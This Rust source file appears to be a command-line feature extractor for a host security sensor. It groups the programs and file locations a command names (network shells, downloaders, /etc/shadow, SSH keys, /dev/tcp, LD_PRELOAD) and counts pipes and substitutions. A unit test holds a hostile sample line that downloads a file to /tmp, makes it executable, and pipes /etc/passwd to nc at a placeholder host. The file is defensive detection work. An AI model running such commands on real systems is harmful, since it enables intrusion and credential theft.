//! Features of a process's command line: its arguments joined by blanks, as the sensor has them.
//!
//! In: that text, hostile, of which the first 16 KiB count. Out: [`LAYOUT`]'s row: shapes of commands (those of `script`), which
//! programs are named, where files lie, how the text is written.

use crate::recorder::{Phrase, Recorded, Recorder, log, share};
use crate::script::{shapes, text};

const LONGEST: usize = 16 << 10;

/// The layout `command-1`.
pub static LAYOUT: Recorded = Recorded::new("command-1", write, FORM);

const PROGRAM: Phrase = Phrase {
    key: "command.program",
    en: "which programs it names",
    ja: "呼び出すプログラム",
    none_en: "does not name that program",
    none_ja: "そのプログラムを呼び出さない",
};
const PLACE: Phrase = Phrase {
    key: "command.place",
    en: "where the files lie that it names",
    ja: "対象ファイルの場所",
    none_en: "names no file there",
    none_ja: "その場所のファイルを含まない",
};
const FORM: Phrase = Phrase {
    key: "command.form",
    en: "how the command is put together",
    ja: "コマンドの構成",
    none_en: "not put together like that",
    none_ja: "そのような構成ではない",
};

/// Programs by what they are for; a group is a feature.
const PROGRAMS: &[(&str, &[&str])] = &[
    ("shell", &["sh", "bash", "dash", "zsh", "ksh", "ash", "busybox"]),
    ("interpreter", &["python", "python2", "python3", "perl", "ruby", "php", "node", "lua", "gawk", "awk"]),
    ("download", &["curl", "wget", "tftp", "ftp", "aria2c", "axel", "lynx"]),
    (
        "network",
        &[
            "nc", "ncat", "netcat", "socat", "telnet", "nmap", "masscan", "tcpdump", "tshark", "ping", "dig",
            "nslookup", "host",
        ],
    ),
    ("remote", &["ssh", "scp", "sftp", "rsync", "sshpass", "ssh-keygen", "ssh-copy-id"]),
    ("encode", &["base64", "xxd", "openssl", "gpg", "uuencode", "uudecode", "hexdump", "od"]),
    ("archive", &["tar", "zip", "gzip", "7z", "bzip2", "xz", "unzip", "cpio"]),
    ("accounts", &["useradd", "adduser", "usermod", "userdel", "passwd", "chpasswd", "groupadd", "visudo", "gpasswd"]),
    ("rights", &["sudo", "su", "doas", "pkexec", "setcap", "getcap", "chattr", "lsattr"]),
    ("attributes", &["chmod", "chown", "chgrp", "touch", "setfacl"]),
    ("schedule", &["crontab", "at", "batch", "atq", "anacron"]),
    (
        "services",
        &[
            "systemctl",
            "service",
            "update-rc.d",
            "chkconfig",
            "deb-systemd-helper",
            "deb-systemd-invoke",
            "invoke-rc.d",
        ],
    ),
    ("modules", &["insmod", "modprobe", "rmmod", "lsmod", "kmod", "depmod"]),
    ("firewall", &["iptables", "ip6tables", "nft", "ufw", "firewall-cmd"]),
    ("end", &["kill", "killall", "pkill", "pgrep", "fuser"]),
    (
        "look-host",
        &[
            "uname",
            "hostname",
            "lscpu",
            "dmidecode",
            "lsb_release",
            "lspci",
            "lsblk",
            "df",
            "mount",
            "env",
            "printenv",
            "uptime",
            "sysctl",
        ],
    ),
    ("look-user", &["whoami", "id", "who", "w", "last", "groups", "getent", "users", "lastlog"]),
    ("look-process", &["ps", "top", "lsof", "pstree", "strace", "gdb", "gcore", "ltrace"]),
    ("look-network", &["netstat", "ss", "ifconfig", "ip", "arp", "route", "traceroute", "nmcli"]),
    ("look-files", &["find", "grep", "egrep", "locate", "ls", "tree", "stat", "file", "strings"]),
    ("text", &["cat", "echo", "printf", "sed", "tee", "head", "tail", "cut", "sort", "tr", "xargs", "wc"]),
    ("files", &["cp", "mv", "rm", "ln", "mkdir", "rmdir", "install", "mktemp"]),
    ("destroy", &["dd", "shred", "mkfs", "wipefs", "truncate", "fdisk", "parted"]),
    ("containers", &["docker", "podman", "kubectl", "crictl", "ctr", "nsenter", "unshare", "chroot", "runc"]),
    ("logs", &["journalctl", "logger", "auditctl", "ausearch", "rsyslogd", "utmpdump"]),
    ("capture", &["xclip", "xwd", "scrot", "import", "xinput", "arecord", "ffmpeg"]),
    ("compile", &["gcc", "cc", "g++", "clang", "make", "cmake", "ld", "as", "ninja", "cargo", "rustc", "go"]),
    ("packages", &["apt", "apt-get", "dpkg", "yum", "dnf", "rpm", "pip", "pip3", "npm", "gem", "snap"]),
    (
        "maintainer",
        &[
            "update-alternatives",
            "dpkg-divert",
            "dpkg-maintscript-helper",
            "debconf",
            "db_get",
            "ucf",
            "ldconfig",
            "deluser",
            "addgroup",
            "py3compile",
            "py3clean",
            "update-mime",
            "dpkg-trigger",
            "dh_installdeb",
        ],
    ),
    ("background", &["nohup", "setsid", "screen", "tmux", "disown", "timeout", "nice", "systemd-run"]),
    ("test", &["test", "[", "if", "then", "fi", "for", "do", "done", "while", "case", "esac", "exit", "return"]),
    ("cloud", &["aws", "gcloud", "az", "rclone", "s3cmd", "gsutil"]),
];

/// Where files lie.
const PLACES: &[(&str, &[&str])] = &[
    ("temporary", &["/tmp/", "/var/tmp/", "/dev/shm/"]),
    ("settings", &["/etc/"]),
    ("programs", &["/usr/bin/", "/usr/sbin/", "/bin/", "/sbin/", "/usr/local/bin/"]),
    ("libraries", &["/usr/lib/", "/lib/", "/usr/share/"]),
    ("accounts", &["/etc/passwd", "/etc/shadow", "/etc/group", "/etc/sudoers"]),
    ("log-in", &[".bashrc", ".profile", ".bash_profile", "/etc/profile", ".zshrc"]),
    ("history", &["_history", "HISTFILE", "HISTSIZE", "HISTCONTROL"]),
    ("keys", &[".ssh", "id_rsa", "authorized_keys", ".gnupg", ".aws", ".pem", ".key"]),
    ("logs", &["/var/log"]),
    ("state", &["/var/lib/", "/var/cache/", "/run/", "/var/run/"]),
    ("processes", &["/proc/"]),
    ("kernel", &["/sys/", "/boot/", "/lib/modules", "/proc/sys"]),
    ("devices", &["/dev/sd", "/dev/mem", "/dev/input", "/dev/tcp", "/dev/urandom", "/dev/zero"]),
    ("null", &["/dev/null"]),
    ("home", &["/root", "/home/", "~/", "$HOME"]),
    ("units", &["/systemd/", ".service", ".timer", "/init.d/"]),
    ("jobs", &["/etc/cron", "/var/spool/cron"]),
    ("preload", &["ld.so.preload", "LD_PRELOAD", "ld.so.conf"]),
    ("pam", &["/etc/pam.d", "pam_"]),
    ("browser", &[".mozilla", "chrome", "chromium", "firefox"]),
    ("address", &["http://", "https://", "ftp://", "tcp://"]),
    ("package-variables", &["DPKG_", "DEB_", "$1", "DEBIAN", "dpkg"]),
];

/// Whether a line says too little to be judged: a single word, or nothing.
pub fn is_judged(line: &[u8]) -> bool {
    line.trim_ascii().len() >= 6 && line.trim_ascii().contains(&b' ')
}

fn write(bytes: &[u8], row: &mut Recorder) {
    let line = &bytes[..bytes.len().min(LONGEST)];
    row.put(FORM, "longer_than_looked_at", bytes.len() > LONGEST);
    text::write(line, row);
    shapes(&[line], row);
    let words: Vec<&[u8]> = line
        .split(|byte| {
            byte.is_ascii_whitespace() || matches!(byte, b';' | b'|' | b'&' | b'(' | b')' | b'`' | b'"' | b'\'' | b'=')
        })
        .filter(|word| !word.is_empty())
        .collect();
    let base = |word: &[u8]| word.iter().rposition(|byte| *byte == b'/').map_or(0, |at| at + 1);
    for (name, programs) in PROGRAMS {
        let is = |word: &&&[u8]| programs.iter().any(|program| program.as_bytes() == &word[base(word)..]);
        row.put_of(PROGRAM, "program", name, words.iter().filter(is).count());
    }
    let first = words.first().map_or(&[][..], |word| &word[base(word)..]);
    for (name, programs) in PROGRAMS {
        row.put_of(PROGRAM, "begins_with", name, programs.iter().any(|program| program.as_bytes() == first));
    }
    for (name, places) in PLACES {
        let there = places.iter().any(|place| memchr::memmem::find(line, place.as_bytes()).is_some());
        row.put_of(PLACE, "place", name, there);
    }
    let options = words.iter().filter(|word| word.starts_with(b"-")).count();
    row.put(FORM, "form.words", words.len());
    row.put(FORM, "form.options", share(options, words.len()));
    row.put(FORM, "form.long_options", words.iter().filter(|word| word.starts_with(b"--")).count());
    row.put(FORM, "form.longest", log(words.iter().map(|word| word.len()).max().unwrap_or(0)));
    let count = |part: &[u8]| memchr::memmem::find_iter(line, part).take(1_000).count();
    for (name, part) in [
        ("pipes", &b"|"[..]),
        ("and", b"&&"),
        ("or", b"||"),
        ("sequence", b";"),
        ("substitution", b"$("),
        ("redirection", b">"),
        ("append", b">>"),
        ("variables", b"$"),
        ("wildcards", b"*"),
        ("lines", b"\n"),
    ] {
        row.put_of(FORM, "form", name, count(part));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Layout as _;
    use proptest::prelude::*;

    fn check(line: &str, name: &str, expected: f32) {
        let mut row = Vec::new();
        LAYOUT.extract(line.as_bytes(), &mut row);
        let index = (0..LAYOUT.width()).find(|index| LAYOUT.name(*index) == name);
        assert_eq!(row[index.unwrap_or_else(|| panic!("no feature {name}"))], expected, "{line}: {name}");
    }

    #[test]
    fn a_line_shows_programs_places_and_form() {
        let line = "/usr/bin/curl -fsSL https://x.example/a -o /tmp/a && chmod +x /tmp/a; cat /etc/passwd | nc x 1";
        check(line, "program.download", 1.0);
        check(line, "program.network", 1.0);
        check(line, "program.archive", 0.0);
        check(line, "begins_with.download", 1.0);
        check(line, "begins_with.network", 0.0);
        check(line, "place.temporary", 1.0);
        check(line, "place.accounts", 1.0);
        check(line, "place.keys", 0.0);
        check(line, "form.and", 1.0);
        check(line, "form.pipes", 1.0);
        check(line, "shape.executable-in-temp", 1.0);
    }

    #[test]
    fn a_single_word_is_not_judged() {
        assert!(!is_judged(b"ls"));
        assert!(!is_judged(b"   systemd-journald "));
        assert!(is_judged(b"cat /etc/shadow"));
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(60))]

        #[test]
        fn any_bytes_give_a_whole_row(bytes in proptest::collection::vec(any::<u8>(), 0..600), text in "[ -~]{0,200}") {
            for input in [bytes.as_slice(), text.as_bytes()] {
                let mut row = Vec::new();
                LAYOUT.extract(input, &mut row);
                prop_assert_eq!(row.len(), LAYOUT.width());
                prop_assert!(row.iter().all(|value| value.is_finite()));
            }
        }
    }
}
